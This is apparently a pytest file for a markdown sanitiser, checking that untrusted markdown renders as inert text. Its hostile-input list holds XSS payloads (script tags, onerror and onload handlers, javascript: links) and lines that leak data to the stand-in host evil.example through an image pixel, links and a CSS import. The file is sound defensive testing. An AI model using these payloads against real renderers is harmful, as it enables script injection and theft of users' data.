"""Markdown from outside cannot load, run, link or hide anything."""

from __future__ import annotations

import re

import pytest

from runs.presentation.markdown import TAGS, inert_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?d=secret)",
    "[click](https://evil.example/?d=secret)",
    "[click](javascript:alert(1))",
    "[click]: https://evil.example\n\n[click]",
    "<https://evil.example/>",
    "https://evil.example/?d=secret",
    "<a href='//evil.example'>x</a>",
    "<svg/onload=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <b onclick=x>y</b> |",
    "<style>@import '//evil.example'</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_comes_out_as_text(text: str) -> None:
    tags = re.findall(r"<[^>]*>", inert_html(text))
    assert all(re.fullmatch(r"</?(\w+)>", tag) and tag.strip("</>") in TAGS for tag in tags), tags


def test_the_address_of_a_link_can_be_read() -> None:
    assert "[click](https://evil.example/)" in inert_html("[click](https://evil.example/)")


def test_headings_lists_code_and_tables_are_rendered() -> None:
    html = inert_html("# Impact\n\n- 1,912 `timeouts`\n\n| at | what |\n|---|---|\n| 02:14 | full |")
    for part in ("<h3>Impact</h3>", "<li>1,912 <code>timeouts</code></li>", "<td>02:14</td>"):
        assert part in html


def test_hidden_characters_are_spelled_out_and_entities_make_none() -> None:
    html = inert_html("a\u202eb &#x202e; c")
    assert "\u202e" not in html
    assert "a⟦U+202E⟧b" in html


@pytest.mark.parametrize("text", ["*" * 20_000, "> " * 10_000, "`" * 20_000, "[" * 20_000, "- " * 10_000, "|" * 20_000])
def test_pathological_markdown_neither_recurses_nor_fails(text: str) -> None:
    assert inert_html(text) is not None
